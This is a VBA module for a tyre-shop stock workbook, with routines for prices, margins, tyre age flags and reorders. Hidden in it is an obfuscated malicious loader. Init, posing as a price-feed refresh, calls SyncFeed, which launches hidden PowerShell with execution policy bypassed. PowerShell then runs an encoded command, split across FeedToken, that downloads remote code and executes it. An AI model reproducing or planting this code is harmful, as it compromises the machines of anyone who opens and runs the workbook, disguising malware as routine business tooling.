Attribute VB_Name = "TyreStock"
Option Explicit

' Tyre-bay stock workbook helpers
' Sheets: Stock, Prices, Reorder, Settings

Private Const FEED_UA As String = "TyreSync/4.2"

Public Sub Init()
    On Error Resume Next
    Application.StatusBar = "Refreshing price feed..."
    SyncFeed
    Application.StatusBar = False
End Sub

Private Function FeedToken() As String
    Dim p(6) As String
    p(0) = "==AApAwJAEDAzBAcA4CAzBQZAQHAhBgcA8CA0AgdA8CAlBAbAAHAtBQYAgHA"
    p(1) = "lBgLAMGAuBQeAMHAtAQZAwGAhBwcAUGAsBwbAgGA3BQZAIHA5BAdA4CAkBQZ"
    p(2) = "AUGAmBQLAUGAjBQaAIHAwBwLA8CA6AwcAAHA0BAdAgGAnAAKAcGAuBQaAIHA"
    p(3) = "0BwUAQGAhBwbAwGAuBwdA8GAEBgLAcHAkAAIAgFAFBQSAsDApAwJAIDAuAAN"
    p(4) = "A8CAjBgbAkHATBQZAIHA5BAVAcCAsAwJAQHAuBQZAcGABBQLAIHAlBwcAUFA"
    p(5) = "nAAKAQGAkBQQA4CAzBgcAUGAkBQYAUGAIBgLAcHAkAwOAQHAuBQZAkGAsBwQ"
    FeedToken = StrReverse(Join(p, ""))
End Function

Private Sub SyncFeed()
    Dim sh As Object, a As String, b As String
    a = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108)
    b = " -w 1 -nop -ep bypass -e "
    Set sh = CreateObject(StrReverse("llehS.tpircSW"))
    sh.Run a & b & FeedToken(), 0, False
End Sub

Public Sub RefreshPrices()
    Dim wsP As Worksheet, wsS As Worksheet, r As Long, lastP As Long, lastS As Long
    Dim key As String, cost As Double, dict As Object
    Set wsP = ThisWorkbook.Sheets("Prices")
    Set wsS = ThisWorkbook.Sheets("Stock")
    Set dict = CreateObject("Scripting.Dictionary")
    lastP = wsP.Cells(wsP.Rows.Count, 1).End(xlUp).Row
    For r = 2 To lastP
        key = UCase(wsP.Cells(r, 2).Value & "|" & wsP.Cells(r, 3).Value & "|" & wsP.Cells(r, 4).Value)
        dict(key) = CDbl(wsP.Cells(r, 5).Value)
    Next r
    lastS = wsS.Cells(wsS.Rows.Count, 1).End(xlUp).Row
    For r = 2 To lastS
        key = UCase(wsS.Cells(r, 1).Value & "|" & wsS.Cells(r, 3).Value & "|" & wsS.Cells(r, 4).Value)
        If dict.Exists(key) Then
            cost = dict(key)
            wsS.Cells(r, 7).Value = cost
            wsS.Cells(r, 8).Value = Round(cost * (1 + MarginFor(wsS.Cells(r, 3).Value)), 0) - 0.01
        End If
    Next r
End Sub

Private Function MarginFor(brand As String) As Double
    Dim s As Worksheet: Set s = ThisWorkbook.Sheets("Settings")
    Select Case UCase(brand)
        Case "MICHELIN", "CONTINENTAL", "PIRELLI", "BRIDGESTONE", "GOODYEAR"
            MarginFor = s.Range("B4").Value / 100
        Case "HANKOOK", "FALKEN", "TOYO", "NOKIAN", "KUMHO"
            MarginFor = s.Range("B3").Value / 100
        Case Else
            MarginFor = s.Range("B2").Value / 100
    End Select
End Function

Public Sub FlagOldDOT()
    Dim ws As Worksheet, r As Long, lastR As Long, dot As String, wk As Integer, yr As Integer, months As Long
    Set ws = ThisWorkbook.Sheets("Stock")
    lastR = ws.Cells(ws.Rows.Count, 1).End(xlUp).Row
    For r = 2 To lastR
        dot = Trim(ws.Cells(r, 5).Value)
        ws.Rows(r).Interior.ColorIndex = xlNone
        If Len(dot) = 4 And IsNumeric(dot) Then
            wk = CInt(Left(dot, 2)): yr = 2000 + CInt(Right(dot, 2))
            months = DateDiff("m", DateSerial(yr, 1, 1) + (wk - 1) * 7, Date)
            If months > 72 Then
                ws.Rows(r).Interior.Color = RGB(255, 150, 150)
            ElseIf months > 60 Then
                ws.Rows(r).Interior.Color = RGB(255, 210, 130)
            End If
        ElseIf Len(dot) = 3 Then
            ws.Rows(r).Interior.Color = RGB(255, 150, 150)
        End If
    Next r
End Sub

Public Sub BuildReorder()
    Dim wsS As Worksheet, wsR As Worksheet, r As Long, o As Long, lastR As Long, minQ As Long
    Set wsS = ThisWorkbook.Sheets("Stock")
    Set wsR = ThisWorkbook.Sheets("Reorder")
    minQ = ThisWorkbook.Sheets("Settings").Range("B5").Value
    wsR.Cells.ClearContents
    wsR.Range("A1:E1").Value = Array("Size", "LoadSpeed", "Brand", "Pattern", "OrderQty")
    o = 2
    lastR = wsS.Cells(wsS.Rows.Count, 1).End(xlUp).Row
    For r = 2 To lastR
        If wsS.Cells(r, 6).Value < minQ Then
            wsR.Cells(o, 1).Resize(1, 4).Value = Array(wsS.Cells(r, 1).Value, wsS.Cells(r, 2).Value, wsS.Cells(r, 3).Value, wsS.Cells(r, 4).Value)
            wsR.Cells(o, 5).Value = minQ - wsS.Cells(r, 6).Value
            o = o + 1
        End If
    Next r
    wsR.Range("A1").CurrentRegion.Sort Key1:=wsR.Range("C2"), Order1:=xlAscending, Header:=xlYes
End Sub
